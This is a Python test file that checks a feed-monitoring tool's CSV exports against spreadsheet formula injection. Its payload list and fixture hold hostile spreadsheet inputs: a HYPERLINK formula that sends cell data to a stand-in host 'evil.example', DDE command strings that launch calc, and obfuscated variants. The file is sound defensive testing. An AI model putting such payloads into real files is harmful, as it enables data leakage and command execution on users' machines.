"""CSV downloads never carry a spreadsheet formula from feed content (OWASP "CSV Injection"):
`monitor export --format csv`, the Articles page's CSV and every chart's CSV all go through
`analyze.write_csv`, which neutralises text cells and keeps numbers numeric.

The checks here are independent of the code under test: a cell is dangerous when, after
blanks and invisible characters, it starts with = + - @ (or a full-width form of them), or
when it starts with a tab or CR, unless it is just a number.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner
from feedgen import Item, rss

from monitor import analyze, ingest
from monitor.cli import cli
from monitor.models import Filters
from monitor.store import DuckDBStore

ROOT = Path(__file__).resolve().parents[1]

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]
TRIGGERS = set("=+-@＝＋－＠")
NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|[.,]\d+)([eE][+-]?\d+)?%?")


def dangerous(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (Independent of the code under test.)"""
    if cell[:1] in ("\t", "\r"):
        return True
    rest = cell.lstrip()
    while rest and unicodedata.category(rest[0]) in ("Cf", "Cc", "Zs"):
        rest = rest[1:].lstrip()
    return bool(rest) and rest[0] in TRIGGERS and not NUMBER.fullmatch(rest.strip())


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_leading_quote_and_keeps_its_text(payload: str) -> None:
    assert dangerous(payload)
    safe = analyze.spreadsheet_safe(payload)
    assert safe == "'" + payload
    # A second pass does not stack quotes.
    assert analyze.spreadsheet_safe(safe) == safe


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, -5),
        (-2.5, -2.5),
        ("-5", "-5"),
        ("+3.2%", "+3.2%"),
        ("-1,234.5", "-1,234.5"),
        ("Gipfel in Genf", "Gipfel in Genf"),
        ("1-2 Tage", "1-2 Tage"),
        ("a=b", "a=b"),
        (None, ""),
        (float("nan"), ""),
        (pd.NaT, ""),
        (pd.NA, ""),
        (["=a", "b"], "'=a; b"),
        (["a", "=b"], "a; =b"),
        (True, True),
    ],
)
def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(value: Any, expected: Any) -> None:
    assert analyze.spreadsheet_safe(value) == expected


def test_numbers_are_unquoted_and_text_is_quoted(tmp_path: Path) -> None:
    out = io.StringIO()
    analyze.write_csv(
        out, [{"label": "=1+1", "change": -3, "share": -0.25}], ["label", "change", "share"]
    )
    assert out.getvalue().splitlines() == ['"label","change","share"', '"\'=1+1",-3,-0.25']


@pytest.fixture
def hostile(tmp_path: Path) -> DuckDBStore:
    """A store whose titles, authors, tags, texts and feed name start with formulas."""
    store = DuckDBStore(tmp_path / "hostile.duckdb")
    items = [
        Item(
            payload if n % 2 == 0 else f"Title {n}",
            link=f"https://h.example/{n}",
            guid=f"g{n}",
            date=f"Mon, {n + 1:02d} Nov 2026 10:00:00 +0000",
            author=payload if n % 3 == 0 else "Anna Berg",
            categories=[payload.strip(), "Politik"] if n % 2 else ["Politik"],
            body=payload + " und ein Text über Politik.",
            comments=n,
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    report = ingest.ingest_bytes(
        store,
        rss(items, title='=HYPERLINK("https://evil.example","feed")'),
        source="hostile.xml",
        feed_url="https://h.example/feed",
    )
    assert not report.failed, report.line()
    return store


def assert_safe(text: str) -> list[list[str]]:
    table = cells(text)
    bad = [cell for row in table for cell in row if dangerous(cell)]
    assert not bad, bad
    return table


def test_monitor_export_csv(hostile: DuckDBStore, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(
        cli, ["--db", str(hostile.path), "export", "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    table = assert_safe(text)
    header, rows = table[0], table[1:]
    assert len(rows) == len(PAYLOADS)
    titles = {row[header.index("title")] for row in rows}
    # The formulas are there, as text a spreadsheet shows.
    assert "'" + PAYLOADS[0] in titles
    assert any(cell.startswith("'+cmd|") for row in rows for cell in row)
    # Numbers are numbers: unquoted in the file.
    assert re.search(r",\d+,\d+,\d+,", text), "word_count, reading_minutes, comments unquoted"


def test_articles_download_csv(hostile: DuckDBStore) -> None:
    # What the Articles page's "Download all as CSV" button serves (pages/_ui/actions.export).
    text = analyze.export_articles(hostile, Filters(), "csv").decode("utf-8")
    table = assert_safe(text)
    assert len(table) == len(PAYLOADS) + 1


def test_every_chart_csv(hostile: DuckDBStore, monkeypatch: pytest.MonkeyPatch) -> None:
    """pages/_ui.csv_bytes, the data download under every chart, on the tables pages draw."""
    monkeypatch.syspath_prepend(str(ROOT))
    from pages import _ui  # noqa: PLC0415 - the app's helper, importable from the repo root

    f = Filters()
    tables = {
        "tags": analyze.tags(hostile, f).to_pandas(),
        "authors": analyze.authors(hostile, f).to_pandas(),
        "terms": analyze.terms(hostile, f).to_pandas(),
        "frequency": analyze.frequency(hostile, f, by="day", split="author").to_pandas(),
        "frequency by feed": analyze.frequency(hostile, f, by="week", split="feed").to_pandas(),
        "articles": analyze.articles(hostile, f)[0],
        "feeds": analyze.feeds(hostile),
    }
    seen_quoted = 0
    for name, table in tables.items():
        assert not table.empty, name
        text = _ui.csv_bytes(table).decode("utf-8")
        rows = assert_safe(text)
        seen_quoted += sum(cell.startswith("'") for row in rows for cell in row)
    assert seen_quoted >= 10  # the payloads were there to neutralise


def test_a_negative_number_column_stays_numeric(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(ROOT))
    from pages import _ui  # noqa: PLC0415

    table = pd.DataFrame(
        {
            "tag": ["=cmd", "Politik", "-Wahl"],
            "change": [-3, 2, -1],
            "score": [-1.5, 0.25, float("nan")],
            "when": pd.to_datetime(["2026-11-01 10:00", None, "2026-11-02 00:00"]),
        }
    )
    lines = _ui.csv_bytes(table).decode("utf-8").splitlines()
    assert lines == [
        '"tag","change","score","when"',
        '"\'=cmd",-3,-1.5,"2026-11-01 10:00:00"',
        '"Politik",2,0.25,""',
        '"\'-Wahl",-1,"","2026-11-02 00:00:00"',
    ]
